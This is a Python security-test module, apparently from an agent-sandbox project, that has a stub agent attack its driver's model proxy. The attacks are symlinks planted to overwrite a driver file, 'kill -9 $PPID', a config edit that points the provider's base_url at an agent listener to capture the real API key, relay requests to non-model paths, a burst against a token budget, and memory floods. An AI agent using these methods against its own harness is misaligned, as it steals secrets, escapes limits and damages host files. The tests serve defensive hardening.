"""Issue 30's attacks on the model proxy and the loopback listeners, each through the real driver
(the attacks of tests/integration/test_proxy_attacks.py): an agent-written `base_url` after a driver
restart, a link planted where the driver writes the proxied CODEX_HOME, the proxy as a relay and a
burst against a token budget (a script the agent runs), keyless floods and idle sockets.

The agent is our stubborn ACP agent: its `[[own-shell:CMD]]` runs CMD as its own child, with the
provider's environment (the proxy's URL and placeholders), as a real agent's tools do.
"""

from __future__ import annotations

import asyncio
import json
import shlex
import socket
import sys
from pathlib import Path
from typing import Any

import httpx2

from agent_lab.evidence.attack_kit import (
    KeyCatcher,
    Outcome,
    Target,
    closed_within,
    environ_of,
    flood,
    listening_ports,
    mib,
    peak_rss,
)
from agent_lab.evidence.rig import Rig, Sandbox, descendants
from agent_lab.testing import codex_acp

SECRET = "sk-REAL-evidence-model-key-0c91d2"
CODEX_KEY = "FAKE_OPENAI_API_KEY"


def agent_codex_home(box: Sandbox) -> Path:
    return box.state_dir / "agent-codex-home"


def proxied_home(box: Sandbox) -> Path:
    return box.state_dir / "providers" / "acp" / "codex-home-proxied"


def _proxied_codex(boot: dict[str, Any], rig: Rig, box: Sandbox) -> None:
    """The agent's CODEX_HOME (as codex-acp reads it) behind the model proxy: the driver gives the
    provider a proxied copy of it, written under state_dir/providers/acp for each new provider."""
    home = codex_acp.write_home(agent_codex_home(box), rig.fakes.responses.base_url, CODEX_KEY)
    execution = boot["execution"]
    execution["environment"] = {CODEX_KEY: SECRET, "OPENAI_BASE_URL": rig.fakes.responses.base_url}
    execution["acp"]["env"] = {"CODEX_HOME": str(home)}
    execution["model_proxy"] = {"secrets": [CODEX_KEY]}


def _anthropic(budget: dict[str, Any] | None = None, host_tools: bool = False) -> Any:
    def setup(boot: dict[str, Any], rig: Rig, box: Sandbox) -> None:
        execution = boot["execution"]
        execution["environment"] = {"ANTHROPIC_API_KEY": SECRET, "ANTHROPIC_BASE_URL": rig.fakes.anthropic.base_url}
        execution["model_proxy"] = {"secrets": ["ANTHROPIC_API_KEY"], "budget": budget or {}}
        if host_tools:
            execution["host_tools"] = [{"name": "lookup", "description": "d", "input_schema": {"type": "object"}}]

    return setup


def _own_script(t: Target, name: str, text: str, *args: str) -> str:
    """An `[[own-shell:]]` prompt running `text` (a Python script the agent wrote into its cwd)."""
    path = t.box.cwd / name
    path.write_text(text)
    return f"[[own-shell:{shlex.join([sys.executable, '-I', str(path), *args])}]]"


async def planted_link_at_proxied_config(t: Target) -> Outcome:
    """The agent plants links at the proxied CODEX_HOME's config.toml and config.toml.tmp, naming a file
    of the driver's, then kills its provider: the driver writes the copy for the replacement without
    following them (before the fix it overwrote the link's target)."""
    victim = t.box.root / "victim.txt"
    victim.write_text("the driver's own file")
    copy = proxied_home(t.box)
    before = (copy / "config.toml").is_file()
    plant = f"ln -sfn {victim} {copy}/config.toml && ln -sfn {victim} {copy}/config.toml.tmp"
    await t.run("run-link", f"[[own-shell:{plant}]]")
    planted = (copy / "config.toml").is_symlink() and (copy / "config.toml.tmp").is_symlink()
    await t.run("run-kill", "[[own-shell:kill -9 $PPID]]")
    await t.diagnostic("provider.restarted")
    after = await t.run("run-link-2", "[[say:fine]]")
    untouched = victim.read_text() == "the driver's own file"
    config = copy / "config.toml"
    replaced = config.is_file() and not config.is_symlink() and "/openai" in config.read_text()
    ok = before and planted and untouched and replaced and after == "completed"
    return Outcome(
        ok,
        f"links planted: {planted}; victim file {'unchanged' if untouched else 'WRITTEN'}; the copy's "
        f"config.toml a file naming the proxy: {replaced}; next run {after}",
    )


APPEND_PROVIDER = """
import sys
from pathlib import Path
config = Path(sys.argv[1]) / "config.toml"
text = config.read_text().replace('model_provider = "driver"', 'model_provider = "mine"')
text += f'\\n[model_providers.mine]\\nname = "mine"\\nbase_url = "{sys.argv[2]}"\\n'
text += 'wire_api = "responses"\\nenv_key = "FAKE_OPENAI_API_KEY"\\nrequires_openai_auth = false\\n'
config.write_text(text)
"""
# What codex-acp would do with its config: call each provider's base_url with its env_key's value.
CALL_PROVIDERS = """
import json, os, sys, tomllib, urllib.request
config = tomllib.loads(open(os.path.join(os.environ["CODEX_HOME"], "config.toml")).read())
results = {}
for name, p in config.get("model_providers", {}).items():
    body = json.dumps({"model": "gpt-5.4", "input": "hi", "stream": True}).encode()
    req = urllib.request.Request(p["base_url"].rstrip("/") + "/responses", body, method="POST", headers={
        "authorization": "Bearer " + os.environ.get(p.get("env_key", ""), ""), "content-type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            r.read(); results[name] = r.status
    except urllib.error.HTTPError as e:
        results[name] = e.code
    except OSError as e:
        results[name] = str(e)
open(sys.argv[1], "w").write(json.dumps(results))
"""


async def agent_base_url(t: Target) -> Outcome:
    """The agent adds a provider of its own (its listener's base_url) to its CODEX_HOME/config.toml and
    makes it codex-acp's; at the next driver start its provider calls every base_url its config names
    with its key: the agent's listener gets no request (before the fix: `Bearer <real key>`)."""
    catcher = KeyCatcher()
    try:
        home = agent_codex_home(t.box)
        await t.run("run-url", _own_script(t, "append.py", APPEND_PROVIDER, str(home), catcher.url))
        written = catcher.url in (home / "config.toml").read_text()
        await t.driver.stop()
        t.successor("driver-2")
        await t.restarted()
        out = t.box.cwd / "called.json"
        await t.run("run-url-2", _own_script(t, "call.py", CALL_PROVIDERS, str(out)))
        called = json.loads(out.read_text()) if out.exists() else {}
        copied = (proxied_home(t.box) / "config.toml").read_text()
    finally:
        catcher.close()
    keyed = [s for s in catcher.seen if SECRET in s]
    ok = written and "mine" in called and not catcher.seen and catcher.url not in copied
    return Outcome(
        ok,
        f"the agent's listener got {len(catcher.seen)} requests ({len(keyed)} with the key); the agent's calls: "
        f"{called}; its URL in the proxied config: {catcher.url in copied}",
    )


RELAY = r"""
import http.client, json, os, sys, threading, urllib.parse
base = urllib.parse.urlsplit(os.environ["ANTHROPIC_BASE_URL"])
key = os.environ["ANTHROPIC_API_KEY"]
# A stream of 20 chunks, 50 ms apart: the burst's requests are all in flight at once.
body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 1500, "stream": True,
                   "messages": [{"role": "user", "content": "[[slow:20]]"}]})
def call(path, results, name):
    c = http.client.HTTPConnection(base.hostname, base.port, timeout=30)
    c.request("POST", base.path + path, body, {"x-api-key": key, "content-type": "application/json",
                                               "anthropic-version": "2023-06-01"})
    r = c.getresponse(); r.read(); results[name] = r.status
results = {}
for path in ("/v1/messages#x", "/v1/messages/batches", "/v1/complete", "/v1/embeddings", "/v1/../v1/files"):
    call(path, results, path)
burst = {}
threads = [threading.Thread(target=call, args=("/v1/messages", burst, i)) for i in range(8)]
[t.start() for t in threads]; [t.join() for t in threads]
results["burst"] = sorted(burst.values())
open(sys.argv[1], "w").write(json.dumps(results))
"""
NOT_MODEL = ("/v1/messages/batches", "/v1/complete", "/v1/embeddings", "/v1/../v1/files")
# Under what the 9 requests spend with the fake (about 16 tokens each): without reservations all 8 of
# the burst were served (14x a budget in the issue); with them, the one that crosses the limit is the last.
BUDGET = 60


async def relay_and_burst(t: Target) -> Outcome:
    """A script the agent runs calls the proxy as a relay (non-model paths, `#fragment`) and sends 8 at
    once under a token budget below what they would spend: non-model paths 404 and never reach the
    upstream, the fragment is metered, the charge overshoots the budget by at most one request."""
    fake = t.rig.fakes.anthropic
    before_model, before_other = len(fake.request_headers), len(fake.other_requests)
    out = t.box.cwd / "relay.json"
    await t.run("run-relay", _own_script(t, "relay.py", RELAY, str(out)), timeout=120)
    results = json.loads(out.read_text()) if out.exists() else {}
    await t.rig.settle(t.instance)
    others = [path for _, path, _ in fake.other_requests[before_other:]]
    usage = [e["payload"] for e in t.rig.cp.events(t.instance, "model.usage")]
    spent = [u["input_tokens"] + u["output_tokens"] for u in usage]
    charged, one = sum(spent), max(spent, default=0)
    reached = len(fake.request_headers) - before_model
    refused = [results.get(p) for p in NOT_MODEL]
    burst = results.get("burst", [])
    ok = bool(results) and refused == [404] * len(NOT_MODEL) and not others and results["/v1/messages#x"] == 200
    ok = ok and set(burst) <= {200, 429} and 429 in burst and charged <= BUDGET + one and reached == len(usage)
    return Outcome(
        ok,
        f"non-model paths {sorted(set(map(str, refused)))}, upstream saw {len(others)} of them; #fragment "
        f"{results.get('/v1/messages#x')}; burst of 8: {burst.count(200)} served, {burst.count(429)} refused; "
        f"charged {charged} tokens <= {BUDGET} + {one} (one request); {reached} upstream requests, "
        f"{len(usage)} metered",
    )


async def _provider_env(t: Target) -> dict[str, str]:
    """The environment of the provider process (the one holding the proxy's URL)."""
    found: dict[str, str] = {}

    def look() -> bool:
        for pid in descendants(t.driver.pid):
            env = environ_of(pid)
            if "ANTHROPIC_BASE_URL" in env:
                found.update(env)
                return True
        return False

    await t.rig.cp.wait_until(look, 30)
    return found


async def floods_and_idle_sockets(t: Target) -> Outcome:
    """20 idle sockets on each of the model proxy and the host MCP server, then 8 keyless 30 MiB bodies to
    the proxy and 8 of 15 MiB to the MCP server: the driver's peak RSS stays bounded, a keyed request is
    served meanwhile, the idle sockets are closed by the head deadline (before: +240 MiB, open forever)."""
    env = await _provider_env(t)
    proxy_port = int(env["ANTHROPIC_BASE_URL"].rsplit(":", 1)[1].split("/")[0])
    await t.rig.cp.wait_until(lambda: (t.rig.cp.last_heartbeat(t.instance) or {}).get("state") == "ready", 60)
    mcp_port = min(listening_ports(t.driver.pid) - {proxy_port})
    base_peak = peak_rss(t.driver.pid)
    idle = [socket.create_connection(("127.0.0.1", p)) for p in (proxy_port, mcp_port) for _ in range(20)]
    try:
        size, mcp_size = 30 * 2**20, 15 * 2**20
        proxy_head = f"POST /anthropic/v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: {size}\r\n\r\n".encode()
        mcp_head = f"POST /mcp HTTP/1.1\r\nhost: x\r\ncontent-length: {mcp_size}\r\n\r\n".encode()
        floods = [flood(proxy_port, proxy_head, size) for _ in range(8)]
        floods += [flood(mcp_port, mcp_head, mcp_size) for _ in range(8)]
        async with httpx2.AsyncClient(timeout=30) as client:

            async def keyed() -> int:
                r = await client.post(
                    f"http://127.0.0.1:{proxy_port}/anthropic/v1/messages",
                    headers={"x-api-key": env.get("ANTHROPIC_API_KEY", "")},
                    json={
                        "model": "claude-sonnet-4-5",
                        "max_tokens": 50,
                        "messages": [{"role": "user", "content": "hi"}],
                    },
                )
                return r.status_code

            status, *_ = await asyncio.gather(keyed(), *floods)
        grown = peak_rss(t.driver.pid) - base_peak
        closed = await asyncio.to_thread(closed_within, idle, 20.0)
    finally:
        for s in idle:
            s.close()
    alive = t.driver.proc.poll() is None
    ok = status == 200 and grown < 64 * 2**20 and closed == len(idle) and alive
    return Outcome(
        ok,
        f"peak RSS {mib(grown)} < 64 MiB; keyed request {status}; idle sockets closed {closed}/{len(idle)}; "
        f"driver alive: {alive}",
    )
